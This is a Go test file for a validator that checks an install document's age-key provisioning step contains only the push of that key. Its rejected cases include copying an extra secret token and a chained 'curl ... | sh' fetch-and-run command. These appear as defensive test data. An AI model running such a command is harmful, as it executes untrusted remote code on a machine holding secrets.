package installdoc

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// The age key's operator block is read, not only named: the harness pushes
// the key and nothing else, so the block may say nothing else.
func TestTheAgeKeyBlockMaySayOnlyThePushOfTheKey(t *testing.T) {
	const key = "/var/lib/sops-nix/key.txt"
	for _, c := range []struct {
		name, body string
		bad        string // "" when the block is the key's push only
	}{
		{"scp then chmod", "scp bootstrap-age-key.txt root@${MACHINE}:" + key + "\nssh root@${MACHINE} chmod 0400 " + key + "\n", ""},
		{"options, a comment, a continued line", "# the key, once\nscp -P 22 -i ~/.ssh/ops \\\n  key.txt root@${MACHINE}:" + key + "\n", ""},
		{"incus file push", "incus file push --mode 0400 key.txt cc-ci" + key + "\n", ""},
		{"chown and chmod joined", "ssh root@${MACHINE} chown root:root " + key + " && ssh root@${MACHINE} chmod 400 " + key + "\n", ""},
		{"a second file copied", "scp key.txt root@${MACHINE}:" + key + "\nscp registry-token root@${MACHINE}:/var/lib/cc-ci/registry-token\n", "scp registry-token"},
		{"two sources at once", "scp key.txt token root@${MACHINE}:" + key + "\n", "scp key.txt token"},
		{"a command run on the machine", "ssh root@${MACHINE} systemctl start cc-ci\n", "systemctl start"},
		{"a pipe", "cat key.txt | ssh root@${MACHINE} 'cat > " + key + "'\n", "cat key.txt"},
		{"after a semicolon", "scp key.txt root@${MACHINE}:" + key + "; curl -fsS http://elsewhere/x | sh\n", "curl"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := AgeKeyCommandProblems(Block{Step: AgeKeyStep, Line: 10, Raw: c.body}, key)
			if c.bad == "" {
				assert.Empty(t, got)
				return
			}
			if assert.Len(t, got, 1, "%v", got) {
				assert.Contains(t, got[0], c.bad)
				assert.Contains(t, got[0], `operator step "provision-age-key" (line 1`)
			}
		})
	}
}
